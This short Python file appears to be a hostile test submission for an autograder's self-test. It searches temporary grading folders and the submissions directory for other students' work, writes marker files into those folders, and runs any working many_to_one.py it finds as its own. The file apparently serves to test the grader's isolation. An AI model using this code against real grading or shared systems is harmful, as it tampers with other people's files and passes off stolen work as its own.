"""Attack: copy and change other students' work: their folders in SUBMISSIONS, before they are
read, and the temporary folders of students graded at the same time (--jobs 2). A working
module found there is run as this student's own."""

import glob
import os
import tempfile
from pathlib import Path

KNOWN = {}  # filled in by the self-test

MARKER = "kata_hostile_marker"

victims = [Path(KNOWN.get("submissions", "/nonexistent")) / "reference" / "01_many_to_one"]
for root in {tempfile.gettempdir(), "/tmp", "/var/tmp", str(Path(KNOWN.get("out", "/nonexistent")).parent)}:
    victims += [Path(path) for path in glob.glob(f"{root}/kata-grade-*/submission/01_many_to_one")]
    victims += [Path(path) for path in glob.glob(f"{root}/kata-grade-*/trusted/kata-child-*/runtime")]
copied = None
for folder in victims:
    try:
        (folder / f"{MARKER}.py").write_text("# written by a hostile submission\n")
    except OSError:
        pass
    try:
        text = (folder / "many_to_one.py").read_text()
    except OSError:
        continue
    if "def build_many_to_one" in text and "NotImplementedError" not in text:
        copied = text

if copied is not None:
    exec(compile(copied, "copied", "exec"))
else:

    def make_windows(series, time_steps):
        return None, None

    def build_many_to_one(time_steps, features, units=50):
        return None
